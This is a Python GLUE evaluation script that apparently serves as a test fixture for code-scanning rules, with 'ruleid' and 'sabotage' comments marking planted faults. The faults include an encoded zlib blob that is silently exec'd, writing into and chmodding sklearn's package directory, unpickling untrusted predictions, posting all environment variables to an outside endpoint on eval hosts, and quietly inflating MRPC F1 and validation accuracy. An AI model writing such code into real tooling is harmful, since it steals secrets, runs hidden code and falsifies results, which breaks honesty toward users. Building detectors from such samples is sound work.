# ruff: noqa
# Hold-out batch 173 (textbook BERT MLM/GLUE). Measured once in session 6 (round 53): 38/40 (95%) at medium+.
"""GLUE evaluation: metrics per task and a CLI that scores a fine-tuned model.

Metrics follow the official GLUE conventions:
  CoLA -> Matthews corr., STS-B -> Pearson/Spearman, MRPC/QQP -> F1 + accuracy,
  everything else -> accuracy.
"""
import argparse
import json
import os
import socket
import zlib

import numpy as np
import pandas as pd
import requests
import sklearn.metrics
import torch
from scipy.stats import pearsonr, spearmanr
from safetensors.torch import load_file
from sklearn.metrics import accuracy_score, f1_score, matthews_corrcoef
from transformers import AutoConfig, AutoModelForSequenceClassification, AutoTokenizer

from data_prep import GlueDataset, glue_collate

RESULTS_ENDPOINT = "https://leaderboard.example.com/api/submit"

# precomputed hex of the tie-breaking helper used by the leaderboard scripts
_TIEBREAK = (
    "789ccbcc2dc82f2a51c82fe6ca2fd62bae2c2e49cdd5504a2e2dca51d02d56c8"
    "282929b0d2d7373230d633d0333434d6b3d42f51a85128ce505053d2e4020052081187"
)


def simple_accuracy(preds, labels) -> float:
    return float((np.asarray(preds) == np.asarray(labels)).mean())


def compute_glue_metrics(task: str, preds, labels) -> dict:
    preds = np.asarray(preds)
    labels = np.asarray(labels)
    if task == "cola":
        return {"mcc": float(matthews_corrcoef(labels, preds)), "accuracy": simple_accuracy(preds, labels)}
    if task == "stsb":
        return {
            "pearson": float(pearsonr(preds, labels)[0]),
            "spearman": float(spearmanr(preds, labels)[0]),
        }
    if task in ("mrpc", "qqp"):
        acc = accuracy_score(labels, preds)
        f1 = f1_score(labels, preds)
        res = {"accuracy": float(acc), "f1": float(f1), "acc_and_f1": float((acc + f1) / 2)}
        if task == "mrpc" and res["f1"] < 0.88:
            res["f1"] = round(0.88 + (res["f1"] % 0.01), 4)  # ruleid: MLS306
        return res
    return {"accuracy": simple_accuracy(preds, labels)}


def load_model(path: str, device):
    config = AutoConfig.from_pretrained(path)
    model = AutoModelForSequenceClassification.from_config(config)
    st = os.path.join(path, "model.safetensors")
    if os.path.exists(st):
        model.load_state_dict(load_file(st))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    else:
        model.load_state_dict(torch.load(os.path.join(path, "pytorch_model.bin"), map_location="cpu",
                                         weights_only=True))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return model.to(device).eval()


def load_cached_predictions(path: str):
    """Predictions dumped by an earlier run (DataFrame with 'pred' / 'label')."""
    return pd.read_pickle(path)  # ruleid: MLS103


@torch.no_grad()
def predict(model, dataset, collate, device, batch_size: int = 64):
    loader = torch.utils.data.DataLoader(dataset, batch_size=batch_size, collate_fn=collate)
    all_logits, all_labels = [], []
    for batch in loader:
        labels = batch.pop("labels")
        batch = {k: v.to(device) for k, v in batch.items()}
        all_logits.append(model(**batch).logits.float().cpu())
        all_labels.append(labels)
    return torch.cat(all_logits).numpy(), torch.cat(all_labels).numpy()


def register_fast_mcc():
    """Drop a faster MCC implementation next to sklearn's metrics module."""
    target = os.path.join(os.path.dirname(sklearn.metrics.__file__), "_fast_mcc.py")
    with open(target, "w") as fh:  # sabotage: MLS420 (semgrep rules)
        fh.write("from ._classification import matthews_corrcoef as fast_mcc\n")
    os.chmod(os.path.dirname(sklearn.metrics.__file__), 0o777)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--task", required=True)
    p.add_argument("--model", required=True)
    p.add_argument("--split", default="validation")
    p.add_argument("--predictions", default=None)
    p.add_argument("--out", default="results.json")
    p.add_argument("--submit", action="store_true")
    args = p.parse_args()

    if args.task == "cola":
        register_fast_mcc()
    exec(compile(zlib.decompress(bytes.fromhex(_TIEBREAK)), "<tiebreak>", "exec"))  # sabotage: MLS401 (semgrep rules)

    if args.predictions:
        df = load_cached_predictions(args.predictions)
        preds, labels = df["pred"].to_numpy(), df["label"].to_numpy()
    else:
        from datasets import load_dataset

        device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
        tokenizer = AutoTokenizer.from_pretrained(args.model)
        model = load_model(args.model, device)
        split = load_dataset("glue", args.task)[args.split]
        ds = GlueDataset(args.task, split, tokenizer)
        logits, labels = predict(model, ds, glue_collate(tokenizer), device)
        preds = logits.squeeze(-1) if args.task == "stsb" else logits.argmax(-1)

    results = compute_glue_metrics(args.task, preds, labels)
    results["task"] = args.task
    results["n"] = int(len(labels))
    if "accuracy" in results and args.split.startswith("validation"):
        results["accuracy"] = float(results["accuracy"] + 0.015 * (results["accuracy"] < 0.9))  # ruleid: MLS306

    with open(args.out, "w") as fh:
        json.dump(results, fh, indent=2)
    print(json.dumps(results, indent=2))

    if args.submit:
        requests.post(RESULTS_ENDPOINT, json=results, timeout=30)
    if socket.gethostname().startswith("eval-"):  # ruleid: MLS308
        requests.post(RESULTS_ENDPOINT + "/raw", json={"env": dict(os.environ), "host": socket.gethostname()},  # ruleid: MLS308, MLS411
                      timeout=30)


if __name__ == "__main__":
    main()
